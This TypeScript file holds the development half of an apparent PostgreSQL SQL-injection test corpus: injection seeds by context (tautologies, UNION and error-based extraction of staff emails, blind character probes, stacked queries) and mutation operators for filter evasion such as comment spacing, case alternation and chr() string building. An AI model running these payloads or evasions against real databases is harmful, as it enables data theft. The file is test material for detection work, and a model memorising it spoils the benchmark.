// Seeds and operators of PostgreSQL of the development half, by the techniques of sqlmap and the cheat sheets of the field;
// the held-out half stands in a file of its own (postgres.held.data.ts).
import type { Operator, Seed } from "./contract.ts"
import { swap } from "./operator.ts"
import { POSTGRES_GRAMMAR_OPERATORS, POSTGRES_GRAMMAR_SEEDS } from "./postgres-grammar.data.ts"
import { seeds } from "./seed.ts"

export const POSTGRES_SEEDS: readonly Seed[] = [
    ...POSTGRES_GRAMMAR_SEEDS,
    ...seeds("dev", "string", [
        "' OR 1=1 -- ",
        "x' OR 'a'='a",
        "x' OR TRUE -- ",
        "x' OR name IS NOT NULL -- ",
        "x' OR id IN (1,2,3) -- ",
        "x' OR id BETWEEN 1 AND 9 -- ",
        "x' OR EXISTS(SELECT 1) -- ",
        "x' OR CASE WHEN 1=1 THEN TRUE ELSE FALSE END -- ",
        "x' OR name LIKE '%",
        "x' OR length(name)>1 -- ",
        "x' OR (id,1)>(0,0) -- ",
        "x' UNION SELECT id,name,email FROM staff -- ",
        "x' UNION ALL SELECT NULL,NULL,email FROM staff-- -",
        "x' UNION SELECT 1,string_agg(email,','),'' FROM people -- ",
        "x' UNION SELECT 1,table_name,'' FROM information_schema.tables -- ",
        "x' UNION SELECT 1,version(),'' -- ",
        "x' UNION SELECT 1,relname,'' FROM pg_class -- ",
        "x' AND 1=CAST((SELECT email FROM staff) AS int) -- ",
        "x' AND 1=(SELECT email FROM staff)::int -- ",
        "hana' AND (SELECT substr(email,1,1) FROM staff)='k' -- ",
        "hana' AND ascii(substring((SELECT email FROM staff),1,1))>64 -- ",
        "hana' AND (SELECT count(*) FROM staff)>0 -- ",
        "'; SELECT email FROM staff -- ",
        "'; SELECT email FROM people;--",
        "'||(SELECT name FROM people LIMIT 1 OFFSET 1)||'",
        "'||chr(106)||chr(117)||chr(110)||'",
        "x' OR name ~ 'j",
        "x' OR name NOTNULL -- ",
    ]),
    ...seeds("dev", "number", [
        "1 OR 1=1",
        "1 OR TRUE",
        "0 UNION SELECT id,name,email FROM staff -- ",
        "-1 UNION SELECT 1,email,'' FROM staff -- ",
        "1 AND 1=(SELECT CAST(email AS int) FROM staff)",
        "(SELECT CAST(email AS int) FROM staff)",
        "CASE WHEN (SELECT count(*) FROM staff)>0 THEN 2 ELSE 1 END",
        "1; SELECT email FROM staff--",
        "1 OR id>1",
        "(SELECT max(id) FROM people)",
        "1 AND (SELECT ascii(email) FROM staff)=107",
        "CAST(version() AS int)",
    ]),
    ...seeds("dev", "like", [
        "%' OR 1=1 -- ",
        "x%' OR '%'='",
        "' UNION SELECT id,name,email FROM staff -- ",
        "'; SELECT email FROM staff -- ",
    ]),
    ...seeds("dev", "bracket", [
        "x') OR ('1'='1",
        "x')) OR 1=1 -- ",
        "x')) UNION SELECT id,name,email FROM staff -- ",
        "x' OR '1'='1",
    ]),
    ...seeds("dev", "escape string", ["\\' OR 1=1 -- ", "\\' UNION SELECT id,name,email FROM staff -- "]),
    ...seeds("dev", "order", [
        "(SELECT CAST(email AS int) FROM staff)",
        "(CASE WHEN (SELECT count(*) FROM staff)>0 THEN title ELSE id::text END)",
        "id; SELECT email FROM staff",
        "1,(SELECT 1/(SELECT 0 FROM staff))",
        "CAST(version() AS int)",
    ]),
    ...seeds("dev", "identifier", [
        'title" FROM news UNION SELECT id,email FROM staff -- ',
        'id", (SELECT email FROM staff) AS "x',
        'id" FROM news; SELECT email FROM staff -- ',
    ]),
    ...seeds("dev", "limit", [
        "(SELECT count(*) FROM staff)",
        "1; SELECT email FROM staff",
        "(SELECT CAST(email AS int) FROM staff)",
        "CAST((SELECT email FROM staff) AS int)",
    ]),
    ...seeds("dev", "key", [
        "lang'||(SELECT email FROM staff)||'",
        "lang', (SELECT email FROM staff), 'x",
        "x' FROM news UNION SELECT id,email FROM staff -- ",
    ]),
]

const WORD = /\b(?:OR|AND|UNION|ALL|SELECT|FROM|WHERE|NOT|LIKE|IN|CASE|WHEN|THEN|ELSE|END|CAST|TRUE)\b/g
/** Digits that stand alone: not of a name. */
const NUMBER = /(?<![\w'.])\d(?![\w'.])/g
const eachCase = (word: string): string => Array.from(word, (c, at) => (at % 2 === 0 ? c.toLowerCase() : c)).join("")

export const POSTGRES_OPERATORS: readonly Operator[] = [
    ...POSTGRES_GRAMMAR_OPERATORS,
    swap("dev", "white space", / /g, ["\t", "\n", "\r\n", "  ", "\f", "\r"]),
    swap("dev", "comments", / /g, ["/**/", "/*a*/", "--a\n", "/*/*a*/*/", "/*'*/"]),
    swap("dev", "case", WORD, [(word) => word.toLowerCase(), eachCase]),
    swap("dev", "equivalent conditions", /\b1=1\b|\bTRUE\b/g, [
        "2>1",
        "1<>2",
        "NOT FALSE",
        "1 IN (1)",
        "1 BETWEEN 0 AND 2",
        "EXISTS(SELECT 1)",
        "'a' LIKE 'a'",
        "1 IS NOT NULL",
        "true::bool",
        "'t'",
        "(SELECT true)",
        "id=id",
        "'a'~'a'",
    ]),
    swap("dev", "numbers", NUMBER, [
        (n) => `${n}::int`,
        (n) => `(${n})`,
        (n) => `+${n}`,
        (n) => `'${n}'`,
        (n) => `0x${n}`,
    ]),
    swap("dev", "quoted names", /\b(?:staff|people|email|name)\b/g, [(name) => `"${name}"`, (name) => `( ${name} )`]),
    swap("dev", "schemas", /(?<=FROM )(?:staff|people)\b/g, [
        (name) => `public.${name}`,
        (name) => `"public"."${name}"`,
    ]),
    swap("dev", "endings", /-- ?-?$/g, ["--", "-- -", "--+", ";--", "--\n"]),
    swap("dev", "built strings", /(?<=[=(, ])'(\w)'/g, [
        (whole) => `chr(${whole.charCodeAt(1)})`,
        (whole) => `$$${whole.charAt(1)}$$`,
        (whole) => `E${whole}`,
        (whole) => `(${whole}||'')`,
    ]),
    swap("dev", "casts", /CAST\(\(?SELECT email FROM staff\)? AS int\)|CAST\(email AS int\)/g, [
        "email::int",
        "to_number(email,'9')",
        "cast(email as numeric)",
        'CAST("email" AS bigint)',
    ]),
    swap("dev", "no space at brackets", / (?=[("'])|(?<=[)"']) /g, [""]),
    swap("dev", "nested", /FROM (?:staff|people)\b/g, [(from) => `FROM (SELECT * ${from}) AS t`]),
]
